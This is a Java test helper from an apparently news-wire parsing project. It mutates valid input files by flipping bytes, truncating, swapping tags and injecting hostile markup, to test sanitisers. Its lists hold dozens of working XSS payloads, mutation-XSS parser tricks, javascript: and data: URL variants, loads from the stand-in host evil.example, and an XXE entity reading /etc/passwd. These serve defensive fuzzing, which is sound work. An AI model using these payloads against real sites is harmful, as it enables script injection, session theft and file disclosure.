package news.masthead.wire.format;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;

/** Makes broken and hostile files out of good ones, the same ones for the same seed. */
final class Mutants {

    /** What has got past sanitisers somewhere; each {@code %s} is a link target. */
    private static final List<String> SNIPPETS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script\n>alert(1)</script\t>",
            "</script><script>alert(1)",
            "<img src=x onerror=alert(1)>",
            "<img src=x oNeRrOr=alert(1)//",
            "<img/src=`x`onerror=alert(1)>",
            "<img src=\"x\" srcset=\"//evil.example 2x\">",
            "<p onmouseover=\"alert(1)\">over</p>",
            "<p/onclick=alert(1)>click",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>m</marquee>",
            "<input autofocus onfocus=alert(1)>",
            "<style>@import '//evil.example/x.css';</style>",
            "<style>p{background:url(javascript:alert(1))}",
            "<p style=\"background:url(//evil.example/x)\">styled</p>",
            "<p style=\"width:expression(alert(1))\">styled</p>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<base href=\"javascript:alert(1)//\">",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
            "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
            "<embed src=\"//evil.example/x.swf\">",
            "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">b</button></form>",
            "<isindex type=image src=1 onerror=alert(1)>",
            "<a href=\"%s\">link</a>",
            "<a href='%s' onclick='alert(1)'>link</a>",
            "<a href=%s>link",
            "<a\nhref\n=\n\"%s\">link</a>",
            "<a href=\"https://fine.example\" href=\"%s\">link</a>",
            "<a xlink:href=\"%s\">link</a>",
            "<svg><a xlink:href=\"%s\"><text x=1 y=1>t</text></a></svg>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<svg><animate attributeName=href values=\"%s\" /></svg>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<math><mi xlink:href=\"%s\">m</mi></math>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><img src=x onerror=alert(1)></template>",
            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
            "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
            "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<!--",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "]]><script>alert(1)</script><![CDATA[",
            "<![CDATA[",
            "<?xml-stylesheet href=\"%s\"?>",
            "<?php echo '<script>alert(1)</script>' ?>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
            "&#x3c;a href=&quot;%s&quot;&#x3e;x",
            "\"><script>alert(1)</script>",
            "' onmouseover='alert(1)",
            "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
            "<table background=\"%s\"><tr><td onclick=alert(1)>cell",
            "</p></body></html><script>alert(1)</script>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "&e;&xxe;",
            "<a href=\"%s");

    private static final List<String> TARGETS = List.of(
            "javascript:alert(1)",
            " JaVaScRiPt:alert(1)",
            "jav\tascript:alert(1)",
            "jav&#x09;ascript:alert(1)",
            "java&NewLine;script:alert(1)",
            "&#106;avascript&colon;alert(1)",
            "\u0001javascript:alert(1)",
            "javascript&#x3A;alert(1)",
            "javascript\u00a0:alert(1)",
            "vbscript:msgbox(1)",
            "VBSCRIPT:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:text/html,<script>alert(1)</script>",
            "DATA:image/svg+xml,<svg onload=alert(1)>",
            "feed:javascript:alert(1)",
            "view-source:javascript:alert(1)",
            "file:///etc/passwd",
            "blob:https://evil.example/1",
            "intent://evil#Intent;end",
            "https://fine.example/");

    private static final Pattern TAG = Pattern.compile("<[^<>]{1,80}>");
    private static final Pattern SEAM = Pattern.compile("<p>|&lt;p&gt;|(?<=[a-z]{3})[.,] |\n\n");

    private final Random random;

    Mutants(long seed) {
        random = new Random(seed);
    }

    byte[] of(byte[] file) {
        byte[] mutant = file;
        for (int i = 0; i <= random.nextInt(3); i++) {
            mutant = mutated(mutant);
        }
        return mutant;
    }

    private byte[] mutated(byte[] file) {
        if (file.length == 0) {
            return file;
        }
        return switch (random.nextInt(20)) {
            case 0 -> flipped(file);
            case 1 ->
                text(file).substring(0, random.nextInt(text(file).length())).getBytes(StandardCharsets.UTF_8);
            case 2 -> swapped(text(file)).getBytes(StandardCharsets.UTF_8);
            case 3 -> doubled(text(file)).getBytes(StandardCharsets.UTF_8);
            default -> poisoned(text(file)).getBytes(StandardCharsets.UTF_8);
        };
    }

    private byte[] flipped(byte[] file) {
        byte[] flipped = file.clone();
        for (int i = 0; i <= random.nextInt(20); i++) {
            flipped[random.nextInt(flipped.length)] = (byte) random.nextInt(256);
        }
        return flipped;
    }

    /** Two tags stand in each other's place. */
    private String swapped(String text) {
        List<MatchResult> tags = new ArrayList<>(TAG.matcher(text).results().toList());
        if (tags.size() < 2) {
            return text;
        }
        int at = random.nextInt(tags.size() - 1);
        MatchResult one = tags.get(at);
        MatchResult other = tags.get(at + 1 + random.nextInt(tags.size() - at - 1));
        return text.substring(0, one.start())
                + other.group()
                + text.substring(one.end(), other.start())
                + one.group()
                + text.substring(other.end());
    }

    private String doubled(String text) {
        int from = random.nextInt(text.length());
        int to = from + random.nextInt(Math.min(text.length() - from, 2_000));
        return text.substring(0, to) + text.substring(from, to) + text.substring(to);
    }

    /** A snippet at a seam, mostly packed as the file's syntax unpacks it. */
    private String poisoned(String text) {
        String packed = packed(any(SNIPPETS).replace("%s", any(TARGETS)), text.stripLeading());
        List<MatchResult> seams = SEAM.matcher(text).results().toList();
        int at = seams.isEmpty() || random.nextInt(10) == 0
                ? random.nextInt(text.length() + 1)
                : seams.get(random.nextInt(seams.size())).end();
        return text.substring(0, at) + packed + text.substring(at);
    }

    private String packed(String snippet, String file) {
        if (random.nextInt(5) == 0) {
            return snippet;
        }
        return switch (file.isEmpty() ? ' ' : file.charAt(0)) {
            case '{', '[' -> json(snippet);
            case '<' -> random.nextBoolean() ? "<![CDATA[" + snippet + "]]>" : escaped(snippet);
            default -> random.nextBoolean() ? snippet : escaped(snippet);
        };
    }

    private static String json(String snippet) {
        String string = JsonNodeFactory.instance.textNode(snippet).toString();
        return string.substring(1, string.length() - 1);
    }

    private static String escaped(String snippet) {
        return snippet.replace("&", "&amp;")
                .replace("<", "&lt;")
                .replace("\"", "&quot;")
                .replaceAll("[\\p{Cntrl}&&[^\\n\\t]]", "");
    }

    private String any(List<String> list) {
        return list.get(random.nextInt(list.size()));
    }

    private static String text(byte[] file) {
        return new String(file, StandardCharsets.UTF_8);
    }
}
